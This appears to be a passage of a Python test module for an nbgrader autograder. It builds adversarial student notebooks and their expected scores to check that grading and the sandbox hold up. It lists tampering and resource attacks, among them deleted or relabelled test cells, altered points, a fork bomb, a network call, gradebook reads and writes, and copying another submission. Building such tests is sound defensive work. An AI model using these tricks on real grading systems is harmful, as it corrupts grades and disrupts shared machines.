        passes=FIRST_TWO, answers=WRONG_THIRD, edit=retype_test_cells, says=SAME_TRANSFORM,
    ),
    # Deleted grade cells are not added back (OverwriteCells.add_missing_cells is off): they score 0.
    "pruebas_borradas": Attack(
        passes=frozenset({"test_normalizacion_2"}), answers=WRONG_THIRD,
        edit=delete_test_cells,
    ),
    # DeduplicateIds empties the earlier copy's nbgrader metadata, which CheckCellMetadata rejects.
    "celda_bloqueada_duplicada": Attack(
        passes=frozenset(), answers=WRONG_THIRD, edit=duplicate_locked_cell, broken=True,
    ),
    "grade_id_duplicado": Attack(
        passes=frozenset(), answers=WRONG_THIRD, edit=duplicate_grade_id, broken=True,
    ),
    "puntos_cambiados": Attack(passes=FIRST_TWO, answers=WRONG_THIRD, edit=change_points),
    # OverwriteCells cannot restore a test cell whose grade flag changed: "Inconsistent checksums".
    "prueba_desmarcada": Attack(
        passes=frozenset(), answers=WRONG_THIRD, edit=unmark_test_cell, broken=True,
    ),
    "metadatos_borrados": Attack(
        passes=FIRST_TWO, answers=WRONG_THIRD, edit=strip_test_metadata,
    ),
    # An unknown grade id is removed by OverwriteCells; a grade cell without one fails CheckCellMetadata.
    "grade_id_cambiado": Attack(
        passes=frozenset(), answers=WRONG_THIRD, edit=rename_grade_id, broken=True,
    ),
    "kernelspec_cambiado": Attack(passes=NORMALIZATION, edit=change_kernelspec),
    "json_truncado": Attack(passes=frozenset(), truncated=True, broken=True, says="no es un JSON válido"),
    "nbformat_99": Attack(passes=frozenset(), edit=future_nbformat, broken=True),
    # Limits.
    "bucle_infinito": Attack(passes=NORMALIZATION, cells=(("test_normalizacion_2", INFINITE_LOOP),)),
    "interrupcion_ignorada": Attack(passes=FIRST_TWO, cells=(("test_normalizacion_2", IGNORED_INTERRUPT),)),
    "memoria_10gb": Attack(passes=NORMALIZATION, cells=(("test_normalizacion_2", TEN_GIGABYTES),)),
    # Last: each of its hundreds of forks copies the kernel's page tables, so the storm lasts as long as the
    # machine is busy, and whether a cell after it still ran in time would depend on the load, not on the kit.
    "bomba_fork": Attack(passes=NORMALIZATION, cells=((END, FORK_BOMB),)),
    "salida_1gb": Attack(passes=NORMALIZATION, cells=(("test_normalizacion_2", ONE_GIGABYTE),)),
    "llamada_de_red": Attack(passes=NORMALIZATION, cells=((END, NETWORK),), hides="conexión establecida"),
    "os_exit": Attack(passes=FIRST_TWO, cells=(("test_normalizacion_2", OS_EXIT),), says=DEAD_KERNEL),
    "fallo_de_segmentacion": Attack(
        passes=frozenset({"test_normalizacion_1"}), cells=(("test_normalizacion_1", SEGFAULT),), says=DEAD_KERNEL,
    ),
    # What the sandbox keeps out of reach.
    "lee_comprobaciones": Attack(passes=NORMALIZATION, cells=((END, READ_CHECKS),), hides="MEAN_TOL"),
    "lee_gradebook": Attack(passes=NORMALIZATION, cells=((END, READ_GRADEBOOK),), hides="SQLite format 3"),
    "escribe_gradebook": Attack(passes=NORMALIZATION, cells=((END, WRITE_GRADEBOOK),)),
    "copia_de_otra_entrega": Attack(passes=frozenset(), reference=(), answers={"normalizacion_1": COPY_OTHER_STUDENT}),
    "lee_source": Attack(passes=frozenset(), reference=(), answers={"normalizacion_1": COPY_SOURCE}),
}


# --- Building the notebooks -----------------------------------------------------------------------

def _reference_answers() -> dict[str, str]:
    from tests.scenarios import _without_solution_markers

    source = nbformat.read(ROOT / "source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
    return {
        cell.metadata["nbgrader"]["grade_id"]: _without_solution_markers(cell.source)
        for cell in source.cells
        if cell.metadata.get("nbgrader", {}).get("solution")
    }


def _new_cell(number: int, source: str) -> dict:
    cell = {"cell_type": "code", "execution_count": None, "id": f"ataque-{number}", "metadata": {}, "outputs": []}
    _set_source(cell, source)
    return cell


def build_case(name: str) -> str:
    """The case's notebook file, as text."""
    attack = CASES[name]
    notebook = json.loads((ROOT / "release" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb").read_text(encoding="utf-8"))
    reference = _reference_answers()
    answers = {grade_id: reference[grade_id] for grade_id in attack.reference} | attack.answers
    for grade_id, source in answers.items():
        _set_source(_cell(notebook, grade_id), source)
    for number, (after, source) in enumerate(attack.cells, start=1):
        if after == END:
            notebook["cells"].append(_new_cell(number, source))
        else:
            _insert_after(notebook, after, _new_cell(number, source))
    if attack.edit:
        attack.edit(notebook)
    text = json.dumps(notebook, sort_keys=True, indent=1, ensure_ascii=False) + "\n"
    return text[: len(text) // 2] if attack.truncated else text


@dataclass(frozen=True)
class Corpus:
    """The committed corpus, with the interface of a scenario table that ``tests.scenarios`` updates."""

    assignment: str
    scenarios: dict[str, Attack]

    @property
    def folder(self) -> Path:
        return ROOT / "tests" / "adversarial" / "entregas"

    @property
    def label(self) -> str:
        return "adversarial"

    def notebook(self, name: str) -> Path:
        return self.folder / f"{name}.ipynb"

    def build(self, name: str) -> str:
        return build_case(name)


CORPUS = Corpus(ASSIGNMENT, CASES)


@functools.cache
def points() -> dict[str, float]:
    """Points of every autograded test cell of the assignment."""
    source = nbformat.read(ROOT / "source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
    return {
        cell.metadata["nbgrader"]["grade_id"]: float(cell.metadata["nbgrader"]["points"])
        for cell in source.cells
        if cell.cell_type == "code" and cell.metadata.get("nbgrader", {}).get("grade")
    }


def expected_score(name: str) -> float:
    return sum(points()[grade_id] for grade_id in CASES[name].passes)
